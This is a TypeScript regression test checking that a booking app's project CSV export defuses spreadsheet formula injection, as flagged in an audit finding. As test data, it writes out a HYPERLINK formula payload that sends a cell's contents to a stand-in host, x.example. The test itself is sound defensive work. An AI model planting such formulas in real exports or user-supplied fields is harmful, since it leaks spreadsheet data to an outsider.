import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { demoPhone } from "../auth/auth.test-support.ts";
import {
  type BookingTestApp,
  bookBody,
  createBookingTestApp,
  jobOf,
  newCart,
} from "../booking/booking.test-support.ts";
import { caller, tokensFor } from "./project.test-support.ts";

// Finding 6: the projects export left a cell starting with "+" or "-" and a digit as it was, so a name
// such as -1+HYPERLINK(…) ran as a formula in the spreadsheet. One defusing rule for every export
// (decision 063): a text cell that starts with = + - @, a tab or a carriage return gets an apostrophe.

let t: BookingTestApp;
let tokens: Awaited<ReturnType<typeof tokensFor>>["tokens"];
const FORMULA = '-1+HYPERLINK("http://x.example/?leak="&A1;"Klikk")';

beforeAll(async () => {
  t = await createBookingTestApp("2026-03-02T07:00:00.000Z");
  ({ tokens } = await tokensFor(t, ["CASEWORKER"]));
}, 180_000);
afterAll(() => t.close());

/** Books el-kontroll for the demo customer with this address; the project's uuid and number. */
async function bookWithAddress(address: string) {
  const cart = await newCart(t, await jobOf(t, "el-kontroll"));
  const reserved = await t.app.inject({
    method: "POST",
    url: `/api/cart/${cart}/reservation`,
    payload: { startsAt: "2026-03-05T07:00:00.000Z" },
  });
  expect(reserved.statusCode, reserved.body).toBe(201);
  const body = await bookBody(t, demoPhone("CUSTOMER"));
  body.contactInformation.address = address;
  const res = await t.app.inject({ method: "POST", url: `/api/cart/${cart}/book`, payload: body });
  expect(res.statusCode, res.body).toBe(201);
  return res.json().data.project as { uuid: string; number: number };
}

/** The export's cells for one project, split as a spreadsheet splits them (quotes undone). */
async function exportedRow(number: number): Promise<string[]> {
  const res = await caller(t)("GET", "/api/project/export?sort=number&dir=asc", tokens.get("CASEWORKER"));
  expect(res.statusCode, res.body).toBe(200);
  const line = res.body.split("\r\n").find((l) => l.startsWith(`${number};`)) ?? "";
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ";" && !quoted) {
      cells.push(cell);
      cell = "";
    } else cell += c;
  }
  cells.push(cell);
  return cells;
}

describe("GET project/export", () => {
  it("defuses a name stored as -1+HYPERLINK(…) (finding 6) and an address typed as a formula", async () => {
    const project = await bookWithAddress(`+1+${FORMULA}`);
    await t.database.db.execute(
      sql`update project set contact_information = jsonb_set(contact_information, '{firstName}', ${JSON.stringify(FORMULA)}::jsonb) where uuid = ${project.uuid}`,
    );
    const cells = await exportedRow(project.number);
    const [customer, , , , address] = cells.slice(4);
    expect(customer).toBe(`'${FORMULA} Kundesen`);
    expect(address).toBe(`'+1+${FORMULA}`);
    // The phone number is text too: kept, behind the apostrophe; the amount stays a number.
    expect(cells[6]).toBe(`'${demoPhone("CUSTOMER")}`);
    expect(cells.at(-1)).toMatch(/^\d+(,\d+)?$/);
  });
});
